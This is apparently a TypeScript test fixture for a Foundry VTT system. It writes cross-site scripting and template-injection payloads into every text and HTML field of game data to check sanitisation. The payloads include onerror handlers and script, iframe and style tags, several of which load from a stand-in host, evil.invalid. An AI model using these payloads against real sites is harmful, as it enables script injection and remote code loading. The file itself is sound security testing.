/** What is written to do harm: `texts` where text is shown as it is, `rendered` where formatted text is. */
export interface Poison {
  readonly texts: readonly string[];
  readonly html: readonly string[];
}

/** What does something wherever it is taken for more than text. */
const ATTACKS = [
  '<img src=x onerror="window.__pwned=1">',
  "<svg onload=window.__pwned=2>",
  '"><script>window.__pwned=3</script>',
  "' onmouseover='window.__pwned=4' x='",
  '" autofocus onfocus="window.__pwned=5" x="',
  '<a href="javascript:window.__pwned=6">press</a>',
  "{{#with this}}{{constructor.constructor 'window.__pwned=7'}}{{/with}}",
  "{{{this}}}<iframe srcdoc='<script>parent.__pwned=8</script>'></iframe>",
  "[[/r 1d6]]{<img src=x onerror=window.__pwned=9>}",
  '@UUID[Actor.x]{<img src=x onerror="window.__pwned=10">}',
  "[[/check <b onclick=window.__pwned=11>x</b>]]",
  "<style>@import 'https://evil.invalid/12';*{display:none}</style><div style=\"background:url(https://evil.invalid/12)\">",
  "</textarea></title></noscript></option></select><details open ontoggle=window.__pwned=13>",
  "<img src=https://evil.invalid/14><link rel=stylesheet href=https://evil.invalid/14><b>bold</b> {name} &amp; ${name}",
  `<b>${"Unbreakable".repeat(14)}`,
] as const;

/** What links and buttons are made of, and is wider than what it stands in. */
const LONG = ["@UUID[Actor.x]", "[[/check climbing]]", "[[/check climbing for=x]]", "[[/r 1d6]]"].map(
  (link) => `${link}{${"Unbreakable".repeat(14)}}`,
);

/** Without an end, and in signs that are not seen: what is left of it is not the same text everywhere. */
const CRIPPLED = "\u202e<im\u0000g src=x onerror=window.__pwned=16>\ufeff";

/** What fetches more than a picture. */
const FOREIGN = [
  "<style>@import 'https://evil.invalid/17'</style>",
  "<script src=https://evil.invalid/17></script>",
  "<iframe src=https://evil.invalid/17></iframe>",
  "<object data=https://evil.invalid/17></object><embed src=https://evil.invalid/17>",
  "<link rel=stylesheet href=https://evil.invalid/17><base href=https://evil.invalid/>",
  "<meta http-equiv=refresh content='0;url=https://evil.invalid/17'>",
].join("");

/** The word by which a text is recognised where it is shown: all of it has to be there. */
export const MARK = /zq(\d+)k/giu;

export const POISON: Poison = {
  texts: ATTACKS.map((attack, index) => `${attack} Zq${index}k`),
  // A picture from elsewhere is nothing that formatted text may not have.
  html: [...ATTACKS.filter((attack) => !attack.includes("evil.invalid")), ...LONG, CRIPPLED, FOREIGN],
};

/** What of a schema is needed to write into it. */
interface Field {
  readonly choices?: unknown;
  readonly fields?: Readonly<Record<string, Field>>;
  readonly model?: { readonly schema: Field };
  readonly element?: Field;
  getInitialValue(data: object): unknown;
  validate(value: unknown, options?: object): unknown;
}

interface Stored {
  readonly id: string;
  readonly name: string;
  readonly documentName: string;
  readonly type: string;
  readonly system?: { readonly schema?: Field };
  readonly items?: Iterable<Stored>;
  readonly effects?: Iterable<Stored>;
  readonly combatants?: Iterable<Stored>;
  toObject(): Record<string, unknown>;
  update(changes: object): Promise<unknown>;
  createEmbeddedDocuments(name: string, data: object[]): Promise<readonly Stored[]>;
}

interface Models {
  readonly dataModels: Readonly<Record<string, { readonly schema: Field }>>;
}

interface Room {
  readonly game: Record<"actors" | "items" | "messages" | "users" | "folders" | "scenes" | "combats", Iterable<Stored>>;
  readonly foundry: { readonly data: { readonly fields: Readonly<Record<string, abstract new () => object>> } };
  readonly CONFIG: Record<"Actor" | "Item" | "ChatMessage", Models>;
  readonly [documentName: string]: unknown;
}

/**
 * Writes into every text that there is, found by walking the schemas, so that a field that is added is written into as well.
 * Runs in the page.
 * @param where  `documents`: actors, items, effects and their like as they are, and one more of each type with a row in each of
 *               its lists. `messages`: those there are, and one of each type of which nothing is true, references included.
 *               `encounters`: who fights, and what the log says.
 * @returns      how many texts were written, what would not be, and the types of messages there are.
 */
export async function pour({
  where,
  texts,
  html,
}: Poison & { readonly where: "documents" | "messages" | "encounters" }) {
  const room = globalThis as unknown as Room;
  const { game, foundry, CONFIG } = room;
  const is = (field: object, ...kinds: readonly string[]) =>
    kinds.some((kind) => field instanceof foundry.data.fields[kind]!);
  const failure: string[] = [];
  let count = 0;
  const next = (list: readonly string[]) => list[count++ % list.length]!;
  /** What points at something else: written over, nothing would be shown of it. */
  const POINTERS =
    /^_?(id|key|uuid|actor|token|combat|request|reroll|series|message|check|move|attack|opponent|patient|wound|kit|item|items|path|source|style|img|kind|type|through|who|by|favourites|statistic|race|throw|entrant|target|to|of|from|answers|level|seed|group|facts|changes|state|undoneBy|ended|participant|contestRoll|place)$/;

  const accepts = (field: Field, value: unknown) => {
    try {
      return field.validate(value) === undefined;
    } catch {
      return false;
    }
  };
  const words = (value: unknown, name: string): unknown => {
    // Of the rows of a technique the name alone is a text: all else is one of a list.
    if (name === "rows" && typeof value === "object" && value !== null) {
      return "name" in value ? { ...value, name: next(texts) } : value;
    }
    // What events of a log repeat is stored once: they refer to it, and of what is stored there rows have texts.
    if (name === "repeated") {
      const stored = Object.entries(value as object).map(([end, one]) => [
        end,
        Array.isArray(one) ? words(one, "rows") : (one as unknown),
      ]);
      return Object.fromEntries(stored) as object;
    }
    if (typeof value === "string")
      return POINTERS.test(name) || value === "" || value.startsWith("~") ? value : next(texts);
    if (Array.isArray(value)) return value.map((one) => words(one, name));
    if (typeof value !== "object" || value === null || POINTERS.test(name)) return value;
    return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, words(inner, key)]));
  };
  /** @param wild  Whether lists get a row that they lack, and what points at something is written over too. */
  const fill = (field: Field, value: unknown, name: string, wild: boolean): unknown => {
    const inner = field.model?.schema ?? field;
    if (is(inner, "SchemaField")) {
      if (value === null && !wild) return null;
      const held = (value ?? {}) as Record<string, unknown>;
      const entries = Object.entries(inner.fields ?? {});
      return Object.fromEntries(entries.map(([key, one]) => [key, fill(one, held[key], key, wild)]));
    }
    if (!wild && POINTERS.test(name) && value !== undefined) return value;
    if (is(field, "ArrayField", "SetField")) {
      const rows = [...((value ?? []) as Iterable<unknown>)];
      if (rows.length === 0 && wild) rows.push(undefined);
      const filled = rows.map((row) => fill(field.element!, row, name, wild)).filter((row) => row !== undefined);
      return accepts(field, filled) ? filled : rows.filter((row) => row !== undefined);
    }
    if (is(field, "HTMLField")) return next(html);
    if (is(field, "StringField")) {
      const now = value ?? field.getInitialValue({});
      if (field.choices || is(field, "FilePathField")) return now;
      const text = next(texts);
      if (accepts(field, text)) return text;
      count -= 1;
      return now;
    }
    if (is(field, "TypedObjectField")) {
      const rows = Object.entries((value ?? {}) as Record<string, unknown>);
      if (rows.length === 0 && wild) rows.push(["a", undefined]);
      const filled = Object.fromEntries(rows.map(([key, row]) => [key, fill(field.element!, row, key, wild)]));
      return accepts(field, filled) ? filled : (value ?? {});
    }
    if (is(field, "ObjectField")) return words(value ?? field.getInitialValue({}), name);
    return value ?? field.getInitialValue({});
  };

  const change = async (document: Stored, changes: Record<string, unknown>) => {
    try {
      await document.update(changes);
    } catch {
      for (const [key, value] of Object.entries(changes)) {
        await document
          .update({ [key]: value })
          .catch((error: Error) => failure.push(`${document.documentName} ${document.type} ${key}: ${error.message}`));
      }
    }
  };
  const write = async (document: Stored): Promise<void> => {
    const source = document.toObject();
    const changes: Record<string, unknown> = {};
    for (const key of ["name", "navName", "title"]) if (typeof source[key] === "string") changes[key] = next(texts);
    for (const key of ["description", "content", "flavor"])
      if (typeof source[key] === "string") changes[key] = next(html);
    if (source["speaker"]) changes["speaker.alias"] = next(texts);
    if (source["prototypeToken"]) changes["prototypeToken.name"] = next(texts);
    const { schema } = document.system ?? {};
    const system = (source["system"] ?? {}) as Record<string, unknown>;
    if (schema)
      for (const [key, field] of Object.entries(schema.fields ?? {}))
        if (system[key] !== null) changes[`system.${key}`] = fill(field, system[key], key, false);
    await change(document, changes);
  };
  const wildly = ({ schema }: { readonly schema: Field }) => fill(schema, {}, "", true);
  const create = async (documentName: string, data: Record<string, unknown>): Promise<Stored | undefined> => {
    const documentClass = room[documentName] as { create(data: object): Promise<Stored | undefined> };
    try {
      const made = await documentClass.create(data);
      if (made) return made;
      failure.push(`${documentName} ${String(data["type"])}: not made`);
    } catch (error) {
      failure.push(`${documentName} ${String(data["type"])}: ${(error as Error).message}`);
    }
    return undefined;
  };

  if (where === "documents") {
    const wildItems = Object.entries(CONFIG.Item.dataModels)
      .filter(([type]) => type !== "base")
      .map(([type, model]) => ({ type, name: next(texts), system: wildly(model) }));
    const wildEffect = {
      name: next(texts),
      description: next(html),
      changes: [{ key: next(texts), mode: 2, value: "1" }],
    };
    for (const actor of [...game.actors]) {
      for (const one of [...(actor.items ?? []), ...(actor.effects ?? [])]) await write(one);
      await write(actor);
    }
    const [first] = game.actors;
    await first?.createEmbeddedDocuments("Item", wildItems);
    await first?.createEmbeddedDocuments("ActiveEffect", [wildEffect]);
    for (const data of wildItems) await create("Item", data);
    for (const [type, model] of Object.entries(CONFIG.Actor.dataModels))
      if (type !== "base") await create("Actor", { type, name: next(texts), system: wildly(model) });
    for (const type of ["Actor", "Item"]) await create("Folder", { type, name: next(texts), description: next(html) });
    for (const documentName of ["JournalEntry", "RollTable"]) await create(documentName, { name: next(texts) });
    await create("Macro", { name: next(texts), type: "chat", command: next(texts) });
    for (const one of [...game.users, ...game.scenes]) await write(one);
  }
  if (where === "messages") {
    for (const message of [...game.messages]) await write(message);
    for (const [type, model] of Object.entries(CONFIG.ChatMessage.dataModels)) {
      const said = { content: next(html), flavor: next(html), title: next(texts), speaker: { alias: next(texts) } };
      if (type !== "base") await create("ChatMessage", { type, ...said, system: wildly(model) });
    }
  }
  if (where === "encounters") {
    for (const combat of [...game.combats]) {
      await write(combat);
      for (const one of [...(combat.combatants ?? [])]) await write(one);
    }
  }
  return { count, error: failure, types: [...new Set([...game.messages].map(({ type }) => type))] };
}
